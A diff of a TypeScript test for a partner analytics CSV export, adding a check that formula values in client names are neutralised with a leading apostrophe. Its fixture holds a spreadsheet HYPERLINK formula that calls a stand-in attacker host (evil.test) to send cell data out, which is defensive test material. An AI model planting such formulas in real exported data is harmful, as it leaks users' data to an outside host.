@@ -27,8 +27,10 @@ const STATS = {
   agents: { totalRevenue: 0, totalCertificates: 0, top: [] },
   period: { from: '2025-03-01', to: '2025-03-31' },
 };
-const row = (number: string, cost: number, reward: number) => ({ id: number, rate: 'Базовый', number, client: 'Клиент; Отчета', phone: '79130000001', email: null, cost, reward, startDate: '2025-03-01T10:00:00.000Z', finishDate: null });
-const REPORT = { rows: [row('ST-1', 900, 90), row('ST-2', 1000, 100)], totals: { cost: 1900, reward: 190 }, period: STATS.period };
+const row = (number: string, cost: number, reward: number, client = 'Клиент; Отчета') => ({ id: number, rate: 'Базовый', number, client, phone: '79130000001', email: null, cost, reward, startDate: '2025-03-01T10:00:00.000Z', finishDate: null });
+// a client's name is typed by whoever sold: a formula must reach the CSV as text (issue 23)
+const FORMULA = '=HYPERLINK("http://evil.test/?"&A2,"Open")';
+const REPORT = { rows: [row('ST-1', 900, 90), row('ST-2', 1000, 100, FORMULA)], totals: { cost: 1900, reward: 190 }, period: STATS.period };
 const PROGRAM = {
   partner: { id: PARTNER, name: 'Бета Партнер' },
   terms: [{ rateId: 'r1', name: 'Базовый', period: 12, price: 1200.5, commission: 10 }],
@@ -85,7 +87,8 @@ describe('partner cabinet /analytic (L3)', () => {
     await waitFor(() => expect(blobs).toHaveLength(1));
     const lines = (await blobs[0]!.text()).replace(/^\uFEFF/, '').trim().split('\r\n');
     expect(lines[0]).toBe('Тариф;Номер;Клиент;Телефон;Email;Стоимость;Вознаграждение;Дата начала;Дата окончания');
-    expect(lines[1]).toBe('Базовый;ST-1;"Клиент; Отчета";+7 (913) 000-00-01;;900.00;90.00;01.03.2025;');
+    expect(lines[1]).toBe(`Базовый;ST-1;"Клиент; Отчета";'+7 (913) 000-00-01;;900.00;90.00;01.03.2025;`);
+    expect(lines[2]).toBe(`Базовый;ST-2;"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")";'+7 (913) 000-00-01;;1000.00;100.00;01.03.2025;`);
     expect(lines.at(-1)).toBe('Итого;;;;;1900.00;190.00;;');
     click.mockRestore();
   });
